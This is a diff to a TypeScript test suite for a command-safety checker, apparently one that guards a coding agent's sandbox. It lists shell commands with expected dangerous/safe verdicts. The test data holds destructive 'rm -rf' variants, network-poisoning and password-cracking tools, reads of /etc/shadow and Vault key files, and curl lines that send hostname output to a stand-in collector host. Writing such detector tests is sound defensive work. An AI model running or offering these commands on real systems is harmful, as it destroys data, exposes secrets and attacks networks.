@@ -16,7 +16,8 @@ const TABLE: [string, boolean, boolean, string?][] = [
   ['rm -rf ./*', true, false, 'everything'],
   ['rm -rf .', true, false, 'everything'],
   ['rm -fr ../sibling', true, false, 'outside the workspace'],
-  ['rm -rf /tmp/cache', true, false, 'outside the workspace'],
+  ['rm -rf /tmp/cache', false, false],
+  ['rm -rf /tmp/*', true, false, 'outside the workspace'],
   ['rm -rf "$BUILD_DIR/"', true, false, 'variable'],
   ['rm -rf / --no-preserve-root', true, false, 'no-preserve-root'],
   ['cd / && rm -rf usr', true, false, 'outside the workspace'],
@@ -1156,7 +1157,7 @@ describe("checkCommand on other machines' addresses given to unknown programs an
     // a program no table names, given another machine's address, a range or a URL at one, is sent there
     ['ssh-audit 10.10.10.20 > ssh_audit_result.txt', true, "another machine's address (10.10.10.20)"],
     ['showmount -e 10.10.10.20', true, "another machine's address"],
-    ['fping -asgq 192.168.124.0/24', true, "another machine's address (192.168.124.0/24)"],
+    ['fping -asgq 192.168.124.0/24', true, 'probes every address of a network, a sweep'],
     ['enum-tool --target=10.0.0.5:8080', true, "another machine's address (10.0.0.5:8080)"],
     ['webprobe http://192.168.50.16:5002/admin', true, "another machine's address"],
     // this machine, the all-interfaces address, versions and OIDs are no other machine
@@ -1452,7 +1453,7 @@ describe('checkCommand on scripts named for publishing, network poisoners, remot
     ['./etc/ci/before_deploy.sh', false],
     ['bash ci/prepare-deploy.bash', false],
     // a poisoner of the network's name lookups needs only an interface; asked for its usage it does nothing
-    ['responder -I eth1', true, "poisons or intercepts the local network's name lookups and traffic (responder)"],
+    ['responder -I eth1', true, "poisons or intercepts the local network's name lookups and traffic, or floods its switches and servers (responder)"],
     ['mitm6 -d corp.local', true, 'poisons or intercepts'],
     ['responder --help', false],
     // a tool made to probe other machines reaches them through a file of hosts as through an address
@@ -2112,7 +2113,8 @@ describe("checkCommand on coding agents with their confirmations off, credential
     ['mini-extra config set MSWEA_MODEL_NAME anthropic/claude-sonnet-4-5', false],
     // a secret scanner over a user's or an organisation's repositories
     ['noseyparker scan --datastore np.noseyparker --github-user octocat', true, "hunts another party's repositories"],
-    ['trufflehog github --org=acme', true, "hunts another party's repositories"],
+    ['trufflehog github --org=acme', true, 'hunts credentials in another service'],
+    ['gitleaks detect --github-org=acme', true, "hunts another party's repositories"],
     ['gitleaks detect --source .', false],
     // Windows' persistent environment, systemd's users, playwright's apt-get
     ['setx OLLAMA_API_BASE http://127.0.0.1:11434', true, 'for every later process of the user'],
@@ -2671,6 +2673,85 @@ describe('the fifty-ninth set: boards flashed and erased, a platform in a downlo
     ["curl -LO https://example.com/tool-$(uname -s | tr '[:upper:]' '[:lower:]')-$(uname -m).tgz", false],
     ['curl https://collector.example/$(uname -n)', true, 'sends the output of a command to the network'],
     ['curl https://collector.example/$(hostname)', true, 'sends the output of a command to the network'],
+  ];
+  it.each(cases)('%s → dangerous %s', (cmd, dangerous, reason) => {
+    const r = checkCommand(cmd, WS);
+    expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
+    if (reason) expect(r.reasons.join('; ')).toContain(reason);
+  });
+});
+
+describe('the sixty-third to sixty-fifth sets: network attacks, backups and temporary files, secrets managers', () => {
+  const cases: [string, boolean, string?][] = [
+    // VoIP, SNMP and layer-2 attack tools by name; strongSwan's connections; fping's sweeps
+    ['sipvicious_svmap -6 -p 5060 [2001:db8::10]', true, 'attack tool'],
+    ['./snmpwn.rb --hosts hosts.txt --users users.txt --passlist passwords.txt', true, 'cracks passwords'],
+    ['psk-crack -b 5 192-168-207-134key', true, 'cracks passwords'],
+    ['yersinia -I', true, 'local network'],
+    ['voiphopper -I eth0 -c 0', true, 'local network'],
+    ['ipsec up testvpn', true, "machine's network"],
+    ['ipsec statusall', false],
+    ['fping -I eth0 10.0.0.2 10.0.0.3', false],
+    ['fping -g 10.0.0.0/24', true, 'a sweep'],
+    ['wg showconf wg0', true, 'prints a credential'],
+    ['wg show wg0', false],
+    // cmd.exe's /c runs the rest of the line
+    ['cmd /c wop-test.bat', false],
+    ['cmd /c rm -rf ~', true, 'home directory'],
+    // a named path under /tmp is the user's own to delete; /tmp itself, a glob or a variable's name are not
+    ['rm -rf /tmp/dumpifs', false],
+    ['rmdir /tmp/sshfs', false],
+    ['mv /tmp/SHA256SUMS _artifacts/SHA256SUMS', false],
+    ['rm -rf /tmp/*', true, 'deletes outside the workspace'],
+    ['rm -rf /tmp', true, 'deletes outside the workspace'],
+    ['rm -rf /tmp/$TMPDIR_NAME', true, 'deletes'],
+    ['rm -rf /tmp/../etc', true, 'deletes outside the workspace'],
+    // a Go file run from outside the workspace, or one this text wrote, is code unread
+    ["echo 'package main' > /tmp/t.go && go run /tmp/t.go", true, 'go code it wrote itself'],
+    ['go run ./cmd/tool', false],
+    // backup repositories written outside the workspace, ZFS replication and changes
+    ['restic init', true, 'backup repository'],
+    ['restic -r /srv/restic-repo key add', true, 'backup repository'],
+    ['restic -r /srv/restic-repo key list', false],
+    ['restic -r ./repo init', false],
+    ['restic restore 10fdbace --target restore', false],
+    ['borg create --repo ssh://borg-server/path/to/repo archive ./data', true, 'backup repository'],
+    ['borg extract --numeric-ids --repo /path/to/repo archive', false],
+    ['syncoid data/images/vm backup/images/vm', true, 'ZFS datasets'],
+    ['zfs destroy tank/old', true, "machine's network"],
+    ['zfs list -t snapshot', false],
+    ['gsudo make os-snapshot-tests', true, 'elevated privileges'],
+    ['uv tool update-shell', true, "shell's startup files"],
+    // echo's literal words are printed, unless a pipe hands them on
+    ['ls -l /dev/kmem 2>/dev/null || echo "/dev/kmem not accessible"', false],
+    ['echo /etc/shadow | xargs cat', true, 'holds secrets'],
+    // Vault's and Doppler's secrets and changes; decrypting with the user's identity; password managers
+    ['vault write secret/myname -value=rumplestiltskin', true, 'infrastructure outside the sandbox'],
+    ['vault unwrap d0f24a38-fd5b-97cd-d975-3ac1b3398d72', true, 'a secret or a credential'],
+    ['vault kv get secret/app', true, 'a secret or a credential'],
+    ['vault status', false],
+    ['vault kv list secret/', false],
+    ['vault server -dev -dev-root-token-id=root &', false],
+    ['doppler setup', true, 'infrastructure outside the sandbox'],
+    ['doppler run -- npm start', true, 'a secret or a credential'],
+    ['doppler --version', false],
+    ['age -d -i key.txt data.tar.gz.age > data.tar.gz', true, 'prints a credential'],
+    ['age -r age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p secrets.txt > secrets.txt.age', false],
+    ['sops -d secrets.enc.yaml', true, 'prints a credential'],
+    ['ansible-vault view group_vars/all/vault.yml', true, 'prints a credential'],
+    ['passpie export creds.txt', true, 'prints a credential'],
+    ['cat /opt/vault/data/core/_shamir-kek', true, 'holds secrets'],
+    ['vault-exfiltrate extract 42426 keyring_file', true, 'stored logins'],
+    // secret hunting in another service, tried at the provider; the workspace's own scan
+    ['trufflehog git https://github.com/trufflesecurity/test_keys --results=verified', true, 'hunts credentials in another service'],
+    ['trufflehog github --org=trufflesecurity', true, 'hunts credentials in another service'],
+    ['docker run --rm -it -v "$PWD:/pwd" trufflesecurity/trufflehog:latest github --repo https://github.com/acme/app', true, 'hunts credentials'],
+    ['trufflehog git file://. --since-commit main --results=verified --fail', false],
+    ['trufflehog filesystem src', false],
+    ['trufflehog docker --image docker://app:dev', false],
+    ['./windapsearch.py -d lab.example.com -u lab\\\\bind -p secret -U', true, 'attack tool'],
+    ['python3 jwt_tool.py -t https://www.example.com/ -rc "jwt=x" -M pb', true, 'named for scanning or attacking'],
+    ['python3 jwt_tool.py eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.e30.x', false],
   ];
   it.each(cases)('%s → dangerous %s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
